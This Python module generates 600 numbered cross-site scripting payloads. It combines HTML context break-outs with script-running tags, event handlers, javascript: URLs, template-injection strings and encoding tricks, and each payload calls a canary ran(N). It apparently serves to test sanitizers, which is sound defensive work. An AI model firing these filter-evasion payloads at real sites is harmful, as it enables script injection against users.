"""Six hundred texts that call `ran(N)` if a page lets them: made of ways to break out of where a text stands, and of
ways to run a script once out. Each holds its number, so that the one that ran is known.
"""

from itertools import islice, product
from typing import Final

COUNT: Final = 600

_BREAK_OUTS: Final = (
    "",
    '">',
    "'>",
    "`>",
    " >",
    '"/>',
    "</title>",
    "</a></bdi>",
    "</p></li></ul>",
    '\\">',
    "</script>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</svg>",
    "</option></select>",
    "</template>",
    "-->",
    "]]>",
    "\u202e\u2066",
)

_RUNS: Final = (
    "<script>ran({})</script>",
    "<SCRIPT\f>ran({})</SCRIPT\n>",
    "<script type=module>ran({})</script>",
    '<script src="data:text/javascript,ran({})"></script>',
    "<img src=x: onerror=ran({})>",
    '<IMG/ONERROR="ran({})"/SRC=x:>',
    "<img src=x: onerror=&#114;an&lpar;{}&rpar;>",
    "<svg onload=ran({})></svg>",
    "<svg><script>ran({})</script></svg>",
    "<svg><style><img src=x: onerror=ran({})></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x: onerror=ran({})></style></table></math>",
    "<details open ontoggle=ran({})><summary>x</summary></details>",
    "<input autofocus onfocus=ran({})>",
    "<b onmouseover=ran({}) onclick=ran({})>x</b>",
    "<a href='javascript:ran({})'>x</a>",
    "<a href='\x01java&Tab;script:ran({})'>x</a>",
    "<svg><a xlink:href='javascript:ran({})'><text>x</text></a></svg>",
    "<form><button formaction='javascript:ran({})'>x</button></form>",
    "<img srcset='x: 1x' onerror=ran({})>",
    "<input type=image src=x: onerror=ran({})>",
    "<video><source src=x: onerror=ran({})></video>",
    "<style onload=ran({})></style>",
    "<body onload=ran({})>",
    "<marquee onstart=ran({})>x</marquee>",
    "<audio src=x: onerror=ran({})></audio>",
    "<svg><image href=x: onerror=ran({})></image></svg>",
    "<link rel=stylesheet href='data:text/css,' onload=ran({})>",
    "<noscript><p title='</noscript><img src=x: onerror=ran({})>'></noscript>",
)

_OF_THEIR_OWN: Final = (
    '<script src="/search.jsonl?q=ran({})"></script>',
    '<script src="/search.json?q=ran({})"></script>',
    '<script src="/search.csv?q=ran({})"></script>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran({})</x:script>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran({})</x:script>",
    "<iframe srcdoc='<script>ran({})</script>'></iframe>",
    '"><iframe srcdoc="&lt;script>ran({})&lt;/script>"></iframe>',
    "<iframe src='javascript:parent.ran({})'></iframe>",
    '" onmouseover="ran({})',
    "' autofocus onfocus='ran({})",
    "` onclick=`ran({})",
    'x onmouseover=ran({}) "',
    "javascript:ran({})",
    "JaVa\tScRiPt:ran({})",
    "\x01javascript:ran({})//https://h.example/",
    "https://h.example/\" onclick='ran({})' x=\"",
    "data:text/html,<script>parent.ran({})</script>",
    "vbscript:ran({})",
    "{{{{constructor.constructor('ran({})')()}}}}",
    "{{% print(ran({})) %}}{{{{7*7}}}}",
    "{{{{ self.__init__.__globals__ }}}}{{# ran({}) #}}",
    "${{ran({})}} #{{ran({})}} <%= ran({}) %>",
    '","x":"</script><script>ran({})</script>',
    '\\u003c/script>\\u003cscript>ran({})//"}}]',
    "\u2028<script>ran({})</script>\u2029",
    "<!--<script>--></script><img src=x: onerror=ran({})>",
    "<!--><img src=x: onerror=ran({})>-->",
    "<![CDATA[><img src=x: onerror=ran({})>]]>",
    "<?xml ><img src=x: onerror=ran({})>",
    "&lt;script&gt;ran({})&lt;/script&gt;",
    "&#60;img src=x: onerror=ran({})&#62;",
    "&amp;lt;img src=x: onerror=ran({})&amp;gt;",
    "%3Cscript%3Eran({})%3C/script%3E",
    "＜script＞ran({})＜/script＞",
    "<scr\x00ipt>ran({})</scr\x00ipt>",
    "\x00<img\x00 src=x: onerror=ran({})>",
    "<scr<script>ipt>ran({})</scr</script>ipt>",
    "\ue000<img src=x: onerror=ran({})>\ue001",
    "\ue001</mark><img src=x: onerror=ran({})>\ue000",
    "\u202e<img src=x: onerror=ran({})>\u202c\u2069",
    "[x](javascript:ran({}))",
    "![x](x:'onerror='ran({}))",
    "> - **<img src=x: onerror=ran({})>**",
    "`<img src=x: onerror=ran({})>`",
    "$\\href{{javascript:ran({})}}{{x}}$",
    "<base href='x:'><script src=ran({})></script>",
    "<meta http-equiv=x content='' onload=ran({})><link rel=stylesheet href=x: onerror=ran({})>",
    "<object data=x: onerror=ran({})></object><embed src='javascript:ran({})'>",
)

_SWALLOWING: Final = (
    "<script>ran({})//",
    "<script>ran({})<!--",
    "<textarea><p title='</textarea><img src=x: onerror=ran({})>'>",
    "<xmp><p title='</xmp><img src=x: onerror=ran({})>'>",
    "<title><p title='</title><img src=x: onerror=ran({})>'>",
    "<select><img src=x: onerror=ran({})>",
    "<table><img src=x: onerror=ran({})>",
    "<div><template shadowrootmode=open><img src=x: onerror=ran({})>",
    "<img src=x: onerror=ran({}) alt='",
    '<img src=x: onerror=ran({}) alt="',
)
"""These take in what follows them on a page, so they come last."""


def _made() -> list[str]:
    crossed = [before + run for run, before in product(_RUNS, _BREAK_OUTS)]
    count = COUNT - len(_OF_THEIR_OWN) - len(_SWALLOWING)
    forms = [*_OF_THEIR_OWN, *islice(crossed, count), *_SWALLOWING]
    return [
        form.replace("{}", str(number)).replace("{{", "{").replace("}}", "}") for number, form in enumerate(forms)
    ]


PAYLOADS: Final = tuple(_made())
"""The one at index N calls `ran(N)`."""
